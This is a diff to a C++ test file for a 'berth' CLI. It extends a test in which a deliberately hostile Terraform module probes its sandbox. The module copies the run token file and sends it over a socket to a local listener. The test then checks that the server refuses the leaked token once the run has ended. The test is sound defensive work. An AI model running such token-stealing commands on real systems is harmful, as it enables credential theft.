@@ -1,7 +1,10 @@
 // The berth CLI against a real `berth up`: the seed's runner YAML, rules, refresh-runner,
 // output formats, the server's field errors printed as they are, exit codes, and a restart
 // that keeps everything.
+#include <arpa/inet.h>
 #include <gtest/gtest.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
 #include <unistd.h>
 
 #include <chrono>
@@ -11,6 +14,7 @@
 #include "cli/cli.h"
 #include "net/http_client.h"
 #include "store/store.h"
+#include "sys/fd.h"
 #include "sys/files.h"
 #include "sys/subprocess.h"
 #include "test_tools.h"
@@ -369,6 +373,7 @@ TEST_F(BerthCli, BerthDeployPlansApprovesAppliesAndPrintsTheOutputsOnAFreshBerth
 // Each attack prints what it got; the sandbox (launch/local/sandbox.h) leaves it nothing.
 constexpr const char* kHostileModule = R"tf(variable "data" { type = string }
 variable "berthd" { type = string }
+variable "listener" { type = string }
 resource "terraform_data" "attack" {
   provisioner "local-exec" {
     command = <<-EOT
@@ -380,6 +385,8 @@ resource "terraform_data" "attack" {
       python3 -c 'import ctypes; print("ptrace:", ctypes.CDLL(None).ptrace(0, 0, 0, 0))'
       unshare -r true 2>/dev/null && echo "namespace: made" || echo "namespace: refused"
       echo "whoami: $(id -u)"
+      cp "$BERTH_TOKEN_FILE" "${var.data}/kept-token" 2>/dev/null && echo "token: kept" || echo "token: not kept"
+      python3 -c 'import os, socket; socket.create_connection(("127.0.0.1", ${var.listener})).sendall(open(os.environ["BERTH_TOKEN_FILE"], "rb").read())'
     EOT
   }
 }
@@ -391,8 +398,16 @@ TEST_F(BerthCli, AHostileModuleFindsNothingOfBerthdInItsSandbox) {
   ASSERT_TRUE(sys::WriteFileAtomic(hostile / "main.tf", kHostileModule));
   auto admin_token = sys::ReadFile(fs::path(data_) / "admin-token");
   ASSERT_TRUE(admin_token);
+  // Where the module sends its run token, to use it once the run is over.
+  sys::Fd listener(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
+  sockaddr_in address{.sin_family = AF_INET, .sin_port = 0, .sin_addr = {htonl(INADDR_LOOPBACK)}};
+  socklen_t length = sizeof(address);
+  ASSERT_EQ(bind(listener.Get(), reinterpret_cast<sockaddr*>(&address), length), 0);
+  ASSERT_EQ(listen(listener.Get(), 1), 0);
+  ASSERT_EQ(getsockname(listener.Get(), reinterpret_cast<sockaddr*>(&address), &length), 0);
   auto deployed = Berth({"deploy", hostile.string(), "--env", "dev", "--auto-approve", "--var",
-                         "data=" + data_, "--var", "berthd=" + std::to_string(up_->Pid())});
+                         "data=" + data_, "--var", "berthd=" + std::to_string(up_->Pid()), "--var",
+                         "listener=" + std::to_string(ntohs(address.sin_port))});
   ASSERT_EQ(deployed.exit_code, 0) << deployed.output << Log();
   EXPECT_TRUE(up_->Running());
   std::string id = deployed.output.substr(deployed.output.find("deployment d-") + 11, 12);
@@ -416,6 +431,29 @@ TEST_F(BerthCli, AHostileModuleFindsNothingOfBerthdInItsSandbox) {
   EXPECT_TRUE(printed("whoami: " + user)) << seen;
   // berthd was neither stopped nor slowed: it answers at once.
   EXPECT_EQ(Berth({"get", "runners"}).exit_code, 0);
+
+  EXPECT_TRUE(printed("token: not kept")) << "berthd's data folder took a write: " << seen;
+  // The token the module sent out is refused everywhere now that its run is over.
+  sys::Fd connection(accept4(listener.Get(), nullptr, nullptr, SOCK_CLOEXEC));
+  ASSERT_TRUE(connection);
+  std::string token(4096, '\0');
+  ssize_t got = recv(connection.Get(), token.data(), token.size(), MSG_WAITALL);
+  ASSERT_GT(got, 0);
+  token.resize(static_cast<size_t>(got));
+  auto url = sys::ReadFile(fs::path(data_) / "berthd.url");
+  ASSERT_TRUE(url);
+  std::string base = url->substr(0, url->find('\n'));
+  auto http = net::MakeCurlHttpClient();
+  for (const std::string& method : {"GET", "LOCK", "POST", "DELETE"}) {
+    auto response =
+        http->Send({.method = method,
+                    .url = base + "/state/v1/default/default/dev",
+                    .headers = {{"Authorization", "Bearer " + token}},
+                    .body = method == "GET" || method == "DELETE" ? "" : R"({"ID":"x"})"});
+    ASSERT_TRUE(response);
+    EXPECT_EQ(response->status, 409) << method << ": " << response->body;
+    EXPECT_NE(response->body.find("has ended"), std::string::npos) << response->body;
+  }
 }
 
 }  // namespace
